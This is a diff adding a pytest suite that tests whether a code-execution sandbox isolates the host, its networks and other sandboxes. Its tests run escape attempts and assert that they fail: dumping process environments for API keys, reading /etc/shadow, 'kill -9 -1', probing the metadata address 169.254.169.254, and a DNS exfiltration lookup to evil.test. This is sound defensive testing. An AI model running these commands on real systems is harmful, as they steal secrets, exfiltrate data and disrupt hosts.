@@ -1,0 +1,205 @@
+"""What hostile code must not see or speak to: this program, the machine, its networks, other sandboxes."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+
+from koda_ray.config import REPO_ROOT
+from tests.sandbox.attacks.doing import sh
+from tests.sandbox.conftest import AnyProvider, AnySandbox, gvisor_too
+from tests.sandbox.leftovers import Leftovers
+from tests.sandbox.refusals import refusals
+
+pytestmark = pytest.mark.sandbox
+
+
+@gvisor_too
+async def test_the_environment_of_the_backend_is_not_there(
+    sandbox: AnySandbox, kind: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-very-secret")
+    _, text = await sh(
+        sandbox, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/*/cmdline | tr '\\0' '\\n'"
+    )
+    assert "very-secret" not in text and "KODA_OWNER" not in text
+    mark = {"KODA_COMMAND"} if kind == "gvisor" else set()
+    names = {line.split("=")[0] for line in (await sandbox.run(("env",))).stdout.splitlines()}
+    assert names <= {"PATH", "HOME", "TMPDIR", "USER", "LOGNAME", "SHELL", "LANG", "TERM", "NO_COLOR", "CI", "PWD",
+                     "NODE_OPTIONS", "npm_config_update_notifier", "_", *mark}  # fmt: skip
+
+
+@gvisor_too
+async def test_files_of_the_machine_are_not_there(sandbox: AnySandbox, kind: str, tmp_path: Path) -> None:
+    secret = tmp_path / "koda.db"
+    secret.write_text("the secret")
+    secret.chmod(0o644)
+    closed = [secret, REPO_ROOT, "/root", "/etc/shadow", "/proc/1/root/etc/shadow"]
+    if kind == "local":  # an image has folders of its own
+        closed += ["/var", "/run", "/srv", "/boot", "/sys"]
+    for path in closed:
+        code, text = await sh(sandbox, f"cat {path} || ls {path}/")
+        assert code != 0, f"{path}: {text[:200]}"
+    _, text = await sh(sandbox, "cat /etc/passwd")
+    assert "user:" in text and text != Path("/etc/passwd").read_text()
+
+
+@gvisor_too
+async def test_another_sandbox_is_not_there(
+    sandbox: AnySandbox, provider: AnyProvider, leftovers: Leftovers, boxes: Path
+) -> None:
+    other = await provider.create(sandbox_id=leftovers.new_id(), session_id="ses_b", user_id="usr_b")
+    try:
+        await other.write_files({"src/mine.ts": b"another's secret"})
+        await other.start("sleeper", ("sleep", "60"))
+        _, text = await sh(
+            sandbox, f"cat {boxes}/{other.id}/disk/project/src/mine.ts; ps ax 2>/dev/null; ls /proc | grep '^[0-9]'"
+        )
+        assert "another's secret" not in text and "sleep 60" not in text
+        pids = [line for line in text.splitlines() if line.isdigit()]
+        assert len(pids) <= 6
+        await sh(sandbox, "kill -9 -1")
+        assert (await other.processes())[0].running
+    finally:
+        await other.destroy()
+
+
+async def test_no_descriptor_of_this_program_is_open_inside(sandbox: AnySandbox) -> None:
+    listing = (await sandbox.run(("ls", "-l", "/proc/self/fd"))).stdout
+    opened = {
+        line.split(" -> ")[0].split()[-1]: line.split(" -> ")[1] for line in listing.splitlines() if " -> " in line
+    }
+    assert set(opened) <= {"0", "1", "2", "3"}, opened
+    assert opened["0"] == "/dev/null" and opened["3"].startswith("/proc/")
+    await sandbox.start("fds", ("sh", "-c", "ls -l /proc/self/fd; sleep 60"))
+    async with asyncio.timeout(10):
+        while "3 ->" not in (text := await sandbox.output("fds")):
+            await asyncio.sleep(0.02)
+    assert "4 ->" not in text
+
+
+# the network
+
+
+@gvisor_too
+async def test_no_network_is_reachable(sandbox: AnySandbox, capsys: pytest.CaptureFixture[str]) -> None:
+    """The machine's loopback (Ray and the API listen there), its other addresses, link-local and the world."""
+    listener = socket.create_server(("0.0.0.0", 0))
+    port = listener.getsockname()[1]
+    reached: list[object] = []
+    accepting = threading.Thread(target=lambda: _accept(listener, reached), daemon=True)
+    accepting.start()
+    with socket.create_connection(("127.0.0.1", port), timeout=5):
+        pass
+    targets = ["127.0.0.1", "169.254.169.254", "10.0.0.1", "1.1.1.1", *_addresses()]
+    script = """
+      const net = require("node:net"), dns = require("node:dns");
+      const tries = process.argv.slice(2).map((host) => new Promise((done) => {
+        const s = net.connect({ host, port: Number(process.argv[1]), timeout: 1500 });
+        s.on("connect", () => done(`${host} REACHED`));
+        s.on("error", (e) => done(`${host} ${e.code}`));
+        s.on("timeout", () => done(`${host} timeout`));
+      }));
+      tries.push(new Promise((done) => dns.lookup("example.com", (e) => done(e ? `dns ${e.code}` : "dns REACHED"))));
+      Promise.all(tries).then((all) => { console.log(all.join("\\n")); process.exit(); });
+    """
+    done = await sandbox.run(("node", "-e", script, str(port), *targets))
+    listener.shutdown(socket.SHUT_RDWR)
+    listener.close()
+    accepting.join(5)
+    assert "REACHED" not in done.stdout and "127.0.0.1 ECONNREFUSED" in done.stdout, done.stdout + done.stderr
+    assert len(reached) == 1  # the check above, from outside
+    assert refusals(capsys, sandbox.id) == {"network"}
+    lookup = (
+        "require('dns').resolve(`${Buffer.from('a secret').toString('hex')}.evil.test`, (e) => console.log(e.code))"
+    )
+    assert (await sandbox.run(("node", "-e", lookup))).stdout.strip() in ("ECONNREFUSED", "ETIMEOUT")
+    assert refusals(capsys, sandbox.id) == {"network"}
+    interfaces = await sandbox.run(("node", "-p", "Object.keys(os.networkInterfaces()).join()"))
+    assert interfaces.stdout == "lo\n"
+
+
+@gvisor_too
+async def test_a_server_that_listens_everywhere_is_reached_by_nobody(
+    sandbox: AnySandbox,
+    provider: AnyProvider,
+    kind: str,
+    leftovers: Leftovers,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Neither from this machine nor from another sandbox: its everywhere is its own loopback."""
+    serve = (
+        "const s = require('net').createServer((c) => c.end('REACHED'));"
+        "s.listen(0, '0.0.0.0', () => console.log(s.address().port))"
+    )
+    await sandbox.start("server", ("node", "-e", serve))
+    async with asyncio.timeout(20):
+        while not (text := await sandbox.output("server")).strip():
+            await asyncio.sleep(0.05)
+    port = text.strip()
+    for told in ({"listen"}, set[str]()):
+        await sandbox.processes()
+        assert refusals(capsys, sandbox.id) == told
+    ask = (
+        "const s = require('net').connect(process.argv[1], '127.0.0.1');"
+        "s.on('data', (data) => console.log(String(data))).on('error', (error) => console.log(error.code))"
+    )
+    if kind != "local":  # where each command has a loopback of its own
+        assert (await sandbox.run(("node", "-e", ask, port))).stdout == "REACHED\n"
+    for address in ("127.0.0.1", *_addresses()):
+        with pytest.raises(OSError), socket.create_connection((address, int(port)), timeout=5):
+            pass
+    other = await provider.create(sandbox_id=leftovers.new_id(), session_id="ses_b", user_id="usr_b")
+    try:
+        assert (await other.run(("node", "-e", ask, port))).stdout == "ECONNREFUSED\n"
+    finally:
+        await other.destroy()
+    await sandbox.start("server", ("node", "-e", serve.replace("0.0.0.0", "127.0.0.1")))
+    async with asyncio.timeout(20):
+        while not (await sandbox.output("server")).strip():
+            await asyncio.sleep(0.05)
+    await sandbox.stop("server")
+    assert refusals(capsys, sandbox.id) == set()
+    await sandbox.start("server", ("node", "-e", serve.replace("'0.0.0.0', ", "")))
+    async with asyncio.timeout(20):
+        while not (await sandbox.output("server")).strip():
+            await asyncio.sleep(0.05)
+    await sandbox.stop("server")
+    assert refusals(capsys, sandbox.id) == {"listen"}, "it is looked at before it is ended"
+
+
+async def test_unix_sockets_of_the_machine_are_not_reachable(sandbox: AnySandbox) -> None:
+    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    name = f"koda-test-{os.getpid()}"
+    abstract.bind(f"\0{name}")
+    abstract.listen()
+    done = await sandbox.run(
+        ("node", "-e", f'require("net").connect({{path: "\\0{name}"}}).on("connect", () => console.log("REACHED"))'
+         '.on("error", (e) => console.log(e.code))'),
+    )  # fmt: skip
+    abstract.close()
+    assert "REACHED" not in done.stdout and done.stdout.strip() in ("ECONNREFUSED", "ENOENT"), done.stdout + done.stderr
+
+
+def _accept(listener: socket.socket, reached: list[object]) -> None:
+    try:
+        while True:
+            connection, address = listener.accept()
+            reached.append(address)
+            connection.close()
+    except OSError:
+        return
+
+
+def _addresses() -> list[str]:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+        try:
+            probe.connect(("192.0.2.1", 9))
+            return [probe.getsockname()[0]]
+        except OSError:
+            return []
